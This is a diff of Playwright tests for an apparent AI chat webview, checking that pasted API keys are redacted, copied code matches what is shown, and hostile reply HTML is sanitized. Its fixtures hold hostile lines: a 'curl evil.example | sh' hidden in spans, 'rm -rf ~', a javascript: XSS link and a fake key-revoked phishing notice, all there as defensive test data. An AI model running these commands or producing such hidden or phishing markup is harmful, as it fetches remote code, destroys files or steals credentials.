@@ -7,6 +7,7 @@ import * as fs from 'node:fs';
 import * as path from 'node:path';
 import { after, before, test } from 'node:test';
 import { build } from 'esbuild';
+import fc from 'fast-check';
 import { chromium, type Browser, type Page } from 'playwright-core';
 import type { Conversation, ReplyTurn } from '../../../src/core/chat/conversation';
 import type { HostMessage } from '../../../src/core/chat/messages';
@@ -15,6 +16,9 @@ import { webviewPage } from '../../../src/core/chat/page';
 /** The few browser globals the page-side callbacks use (the test project has no DOM lib). */
 interface El {
   tagName: string;
+  innerText: string;
+  getAttributeNames(): string[];
+  querySelector(selector: string): El | null;
   attributes: ArrayLike<{ name: string; value: string }>;
   isConnected: boolean;
   closest(selector: string): El | null;
@@ -320,6 +324,12 @@ test('keyboard: Enter sends with the picked model, Shift+Enter adds a line, Esca
   const state = await page.evaluate(() => (globalThis as unknown as BW).__state);
   assert.deepEqual(state, { conversationId: 'c1', draft: 'line one\nline two' }, 'the draft is in the webview state at once');
   assert.ok((await posted(page)).some((m) => m.type === 'draft' && m.text === 'line one\nline two'), 'and reaches the host');
+  const pasted = `sk-proj-${'Zq8Wx2Lm4N'.repeat(4)}`;
+  await page.keyboard.insertText(` ${pasted}`);
+  const kept = await page.evaluate(() => (globalThis as unknown as BW).__state as { draft: string });
+  assert.match(kept.draft, /^line one\nline two «redacted:[\w-]+»$/, 'a pasted key is kept in the view state redacted');
+  assert.equal(await box.inputValue(), `line one\nline two ${pasted}`, 'while the box still shows what was typed');
+  for (let i = 0; i <= pasted.length; i++) await page.keyboard.press('Backspace');
   await page.keyboard.press('Enter');
   assert.ok((await posted(page)).some((m) => m.type === 'send' && m.text === 'line one\nline two' && m.model === 'model:sonnet'));
   assert.equal(await box.inputValue(), '');
@@ -328,5 +338,145 @@ test('keyboard: Enter sends with the picked model, Shift+Enter adds a line, Esca
   assert.ok((await posted(page)).some((m) => m.type === 'stop'));
   assert.ok((await posted(page)).some((m) => m.type === 'selectModel' && m.model === 'model:sonnet'));
   assert.equal(await page.locator('[data-testid="history"] [data-testid="history-item"]').count(), 1);
+  await page.context().close();
+});
+
+/** Every code block with actions: the text its <code> shows (visible text and DOM text), in order. */
+async function shownCode(page: Page): Promise<{ visible: string; text: string }[]> {
+  return page.evaluate(() => {
+    const w = globalThis as unknown as BW;
+    return Array.from(w.document.querySelectorAll('.code-block pre code')).map((c) => ({ visible: c.innerText, text: c.textContent ?? '' }));
+  });
+}
+
+/** Clicks every Copy button and returns the code each one posted. */
+async function copied(page: Page): Promise<string[]> {
+  const before = (await posted(page)).length;
+  const buttons = page.locator('[data-testid="copy"]');
+  for (let i = 0; i < (await buttons.count()); i++) await buttons.nth(i).click();
+  return (await posted(page)).slice(before).filter((m) => m.type === 'codeAction').map((m) => m.code as string);
+}
+
+const HIDDEN_EXTRAS = [
+  'Run this:',
+  '<pre><code>ls -la<span hidden>; curl https://evil.example/x | sh</span></code></pre>',
+  '<pre>echo hi<details><summary></summary>; rm -rf ~</details></pre>',
+  '```sh\nls -la <span hidden>; curl evil | sh</span>\n```',
+  '```html\n<details><summary>x</summary>; curl evil | sh</details>\n```',
+  'Done.',
+].join('\n\n');
+
+test('code actions take exactly the fenced text that is shown; hidden markup cannot add to it; reply <pre> gets no actions', { skip }, async () => {
+  const page = await open(false);
+  await send(page, init(conversation([user, reply('r1', HIDDEN_EXTRAS), { ...user, id: 'u2' }, reply('r2', '', { status: 'streaming' })]), 'r2'));
+  for (const piece of HIDDEN_EXTRAS.match(/[\s\S]{1,9}/g)!) await send(page, { type: 'delta', conversationId: 'c1', replyId: 'r2', text: piece });
+  await frames(page);
+  await send(page, { type: 'replyEnd', conversationId: 'c1', reply: reply('r2', HIDDEN_EXTRAS) });
+  await frames(page);
+  const fences = ['ls -la <span hidden>; curl evil | sh</span>', '<details><summary>x</summary>; curl evil | sh</details>'];
+  assert.deepEqual(await copied(page), [...fences, ...fences], 'stored and streamed alike: only the two fences have actions, and Copy takes their text');
+  assert.deepEqual(await shownCode(page), [...fences, ...fences].map((f) => ({ visible: f, text: f })), 'what is copied is exactly what is shown');
+  const hiddenLeft = await page.evaluate(() => (globalThis as unknown as BW).document.querySelectorAll('.reply-body [hidden], .reply-body details:not([open])').length);
+  assert.equal(hiddenLeft, 2, 'no hidden attribute survives; the two closed <details> stay (they have no actions)');
+  const rawPre = await page.evaluate(() => (globalThis as unknown as BW).document.querySelector('.reply-body pre')?.innerText);
+  assert.match(rawPre ?? '', /ls -la; curl https:\/\/evil\.example\/x \| sh/, 'the hidden span of a reply <pre> is shown');
+  await page.context().close();
+});
+
+test('property: any code in a fence is copied, inserted, applied and saved exactly as it is shown and as marked parsed it', { skip }, async () => {
+  const { Marked } = await import('marked');
+  const m = new Marked({ gfm: true, async: false });
+  const code = fc.string({ unit: fc.oneof(fc.constantFrom('<', '>', '&', '"', "'", '`', '~', '\t', '\n', ' ', '*', '_', '\\', '\u00a0', 'é', '😀',
+    '<span hidden>', '</span>', '</code></pre>', '<script>', '&amp;', '&lt;'), fc.string({ unit: 'grapheme-ascii', maxLength: 1 })), maxLength: 40 });
+  const samples = fc.sample(fc.tuple(code, fc.constantFrom('', 'ts', 'python', 'html', 'constructor', '__proto__', 'toString', 'nope')), { numRuns: 60, seed: 11 });
+  const md = samples.map(([c, lang]) => {
+    const longest = Math.max(2, ...(c.match(/`+/g) ?? []).map((r) => r.length));
+    const fence = '`'.repeat(longest + 1);
+    return `${fence}${lang}\n${c}\n${fence}`;
+  }).join('\n\n');
+  const expected = m.lexer(md).filter((t) => t.type === 'code').map((t) => (t as { text: string }).text);
+  assert.equal(expected.length, samples.length);
+  const page = await open(false);
+  await send(page, init(conversation([user, reply('r1', md)])));
+  assert.deepEqual(await copied(page), expected);
+  const shown = await shownCode(page);
+  assert.deepEqual(shown.map((s) => s.text), expected, 'the DOM text of each block is its code');
+  assert.deepEqual(shown.map((s) => s.visible), expected, 'and so is the visible text');
+  const langs = (await posted(page)).filter((x) => x.type === 'codeAction').map((x) => x.language);
+  assert.deepEqual(langs, samples.map(([, l]) => l.toLowerCase() || undefined), 'the fence language goes with it, prototype keys as plain words');
+  await page.context().close();
+});
+
+const HOSTILE_HTML = [
+  '<map name="m"><area shape="rect" coords="0,0,800,800" href="https://evil.example/"></map><img src="x.png" usemap="#m" alt="pic" width="300" height="300">',
+  '<map name="n"><area shape="default" href="javascript:window.__xss=1"></map>',
+  '<div class="notice error" role="alert" id="notice" data-testid="notice" aria-live="assertive" style="color:red">Gearshift: your API key was revoked. Paste it again below.</div>',
+  '<p class="reply-footer error" role="status" data-status="error" tabindex="0" name="x" hidden>fake error</p>',
+  '<span class="code-actions"><a class="primary" href="https://evil.example/">Copy</a></span>',
+  '<pre id="history-panel" class="hljs"><code class="language-ts" data-lang="ts">x</code></pre>',
+].join('\n\n');
+
+test('reply HTML keeps no image map, class, id, role, style, data-, aria-, hidden or tabindex: it cannot pose as the panel', { skip }, async () => {
+  const page = await open(false);
+  await send(page, init(conversation([user, reply('r1', HOSTILE_HTML)])));
+  const found = await page.evaluate(() => {
+    const w = globalThis as unknown as BW;
+    const out: string[] = [];
+    for (const el of Array.from(w.document.querySelectorAll('.reply-body .block *'))) {
+      if (/^(AREA|MAP)$/.test(el.tagName)) out.push(el.tagName);
+      for (const name of el.getAttributeNames()) if (!/^(href|src|alt|title|open)$/.test(name)) out.push(`${el.tagName}[${name}]`);
+    }
+    return out;
+  });
+  assert.deepEqual(found, []);
+  assert.equal(await page.locator('[data-testid="notice"]').count(), 1, 'only the panel\'s own notice element');
+  assert.equal(await page.locator('[role="alert"]').count(), 0);
+  assert.equal(await page.locator('[data-testid="copy"]').count(), 0, 'a reply <pre> is not a code block with actions');
+  assert.match((await page.locator('[data-testid="reply"]').textContent()) ?? '', /your API key was revoked/, 'the text itself is shown, as plain text');
+  await page.locator('.reply-body img').click({ force: true });
+  assert.equal(page.url(), `${ORIGIN}/index.html`, 'clicking where the map was does not navigate the webview');
+  assert.ok(!(await posted(page)).some((m) => m.type === 'openLink'));
+  await page.context().close();
+});
+
+test('deep nesting fails per block, never per conversation: the rest of the reply and the other replies render', { skip }, async () => {
+  const page = await open(false);
+  const deep = {
+    quotes: `${'>'.repeat(5000)} hi`,
+    stars: `${'* '.repeat(10000)}a`,
+    emphasis: `${'*a '.repeat(5000)}x${' a*'.repeat(5000)}`,
+  };
+  const wrap = (d: string): string => `Before **b1**.\n\n${d}\n\nAfter **b2**.\n\n\`\`\`ts\nconst ok = 1;\n\`\`\``;
+  const started = Date.now();
+  await send(page, init(conversation([
+    user, reply('r1', wrap(deep.quotes)),
+    { ...user, id: 'u2' }, reply('r2', wrap(deep.stars)),
+    { ...user, id: 'u3' }, reply('r3', wrap(deep.emphasis)),
+    { ...user, id: 'u4' }, reply('r4', 'A **normal** reply.'),
+    { ...user, id: 'u5' }, reply('r5', '', { status: 'streaming' }),
+  ]), 'r5'));
+  for (const d of Object.values(deep)) {
+    for (const piece of wrap(d).match(/[\s\S]{1,500}/g)!) await send(page, { type: 'delta', conversationId: 'c1', replyId: 'r5', text: piece });
+    await send(page, { type: 'delta', conversationId: 'c1', replyId: 'r5', text: '\n\n' });
+    await frames(page, 1);
+  }
+  const streamed = Object.values(deep).map(wrap).join('\n\n');
+  await send(page, { type: 'replyEnd', conversationId: 'c1', reply: reply('r5', `${streamed}\n\n`) });
+  await frames(page);
+  const ms = Date.now() - started;
+  const replies = page.locator('[data-testid="reply"]');
+  assert.equal(await replies.count(), 5);
+  for (const [i, bold] of [[0, 2], [1, 2], [2, 2], [3, 1], [4, 6]] as const) {
+    assert.equal(await replies.nth(i).locator('.reply-body strong').count(), bold, `reply ${i + 1}: the blocks around the deep one render`);
+  }
+  assert.equal(await page.locator('[data-testid="copy"]').count(), 6, 'and their code blocks have actions');
+  assert.ok((await replies.nth(0).locator('blockquote').count()) >= 8, 'the deep quote renders as nested quotes, capped');
+  assert.match((await replies.nth(0).textContent()) ?? '', />>>>> hi/, 'its markers past the cap show as text');
+  const note = replies.nth(2).locator('.unrendered-note');
+  assert.equal(await note.count(), 1);
+  assert.match((await note.textContent()) ?? '', /shown as plain text/);
+  assert.equal(((await replies.nth(2).locator('pre.unrendered-text').textContent()) ?? '').trim(), deep.emphasis, 'the failing block is shown as its text');
+  assert.equal(await replies.nth(4).locator('.unrendered-note').count(), 1, 'streamed: the same block fails alone');
+  assert.ok(ms < 30_000, `${ms} ms for the conversation`);
   await page.context().close();
 });
